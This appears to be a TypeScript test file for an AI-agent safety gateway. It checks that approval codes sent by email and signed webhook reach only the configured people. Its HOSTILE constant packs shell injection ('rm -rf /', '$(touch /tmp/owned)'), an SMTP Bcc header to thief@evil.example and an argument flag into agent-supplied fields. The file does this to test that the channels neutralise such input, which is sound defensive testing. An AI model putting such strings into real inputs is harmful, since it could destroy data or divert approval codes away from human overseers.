import { createHmac } from 'node:crypto';
import { once } from 'node:events';
import { type AddressInfo, createServer, type Socket } from 'node:net';
import { expect, it, onTestFinished } from 'vitest';
import { escapeInvisible } from '../../../../../src/base/lib/text.js';
import type { Challenge } from '../../../../../src/policy/safety/challenge.js';
import { makeCode } from '../../../../../src/policy/safety/challenges.js';
import { openEmailChannel } from '../../../../../src/policy/safety/channels/email.js';
import { openWebhookChannel } from '../../../../../src/policy/safety/channels/webhook.js';
import { startReceiver } from '../../approvals/webhook-receiver.js';

/** What an agent may write where it hopes that a program or a mail server reads it as something else. */
const HOSTILE = 'x"; rm -rf / #$(touch /tmp/owned)`id`\r\nBcc: thief@evil.example\r\n\r\n.\r\n--title=owned';

const code = makeCode();
const challenge: Challenge = {
  id: '3f1c9a52-6c1e-4f0e-9f0a-0d1b2c3d4e5f',
  kind: 'block',
  subject: 'client/alice',
  agent: HOSTILE,
  execution: 'exec_1',
  action: HOSTILE,
  reason: 'The operator denies this action',
  factors: ['it matches'],
  issuedAt: Date.now(),
  expiresAt: Date.now() + 300_000,
  digest: '',
};

interface Mail {
  readonly commands: string[];
  text: string;
}

/** As much of a mail server as one message needs. */
async function startMailServer(): Promise<{ readonly url: string; readonly mail: Mail }> {
  const mail: Mail = { commands: [], text: '' };
  const answer = (socket: Socket, line: string): void => {
    mail.commands.push(line);
    const [verb] = line.toUpperCase().split(/[ :]/);
    if (verb === 'DATA') socket.write('354 go on\r\n');
    else if (verb === 'QUIT') socket.end('221 bye\r\n');
    else socket.write('250 ok\r\n');
  };
  const server = createServer((socket) => {
    let rest = '';
    let isData = false;
    socket.write('220 test\r\n');
    socket.setEncoding('utf8').on('data', (chunk: string) => {
      rest += chunk;
      for (;;) {
        const end = rest.indexOf(isData ? '\r\n.\r\n' : '\r\n');
        if (end < 0) return;
        const part = rest.slice(0, end);
        rest = rest.slice(end + (isData ? 5 : 2));
        if (isData) {
          mail.text = part;
          isData = false;
          socket.write('250 taken\r\n');
        } else {
          answer(socket, part);
          isData = part.toUpperCase() === 'DATA';
        }
      }
    });
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => void server.close());
  const { port } = server.address() as AddressInfo;
  return { url: `smtp://127.0.0.1:${port}`, mail };
}

it('mails a code to the configured people alone, whatever the agent calls itself and its action', async () => {
  const { url, mail } = await startMailServer();
  const channel = openEmailChannel({ server: url, from: 'gateway@ops.example', to: ['omar@ops.example'] });
  await channel.send({ challenge, code });
  await channel.close();
  expect(mail.commands.filter((line) => line.startsWith('RCPT'))).toEqual(['RCPT TO:<omar@ops.example>']);
  const [head = '', body = ''] = mail.text.split(/\r\n\r\n(.*)/s);
  expect(head).not.toMatch(/^bcc:/im);
  expect(head.replace(/\r\n\s/g, '')).toContain('To: omar@ops.example');
  // Quoted-printable breaks lines.
  expect(body.replace(/=\r\n/g, '')).toContain(code);
  expect(head).not.toContain(code);
});

it('says why a mail did not go out', async () => {
  const server = createServer((socket) => socket.end('554 no service\r\n')).listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => void server.close());
  const { port } = server.address() as AddressInfo;
  const channel = openEmailChannel({ server: `smtp://127.0.0.1:${port}`, from: 'a@b.example', to: ['c@d.example'] });
  await expect(channel.send({ challenge, code })).rejects.toThrow('554');
  await channel.close();
});

it('posts a code signed, as requests for approval are', async () => {
  await using receiver = await startReceiver();
  const secret = 'a-secret-of-the-webhook';
  const channel = openWebhookChannel({ url: `${receiver.url}/codes`, secret });
  await channel.send({ challenge, code });
  const [{ headers = {}, body = '' } = {}] = receiver.posts;
  const [moment, id, signature] = ['timestamp', 'delivery', 'signature'].map((name) => headers[`x-mcp-aql-${name}`]);
  expect(signature).toBe(`sha256=${createHmac('sha256', secret).update(`${moment}.${id}.${body}`).digest('hex')}`);
  expect(JSON.parse(body)).toMatchObject({
    type: 'challenge.issued',
    code,
    challenge: { action: escapeInvisible(HOSTILE) },
  });
  expect(body).not.toContain('digest');
  await channel.close();
});
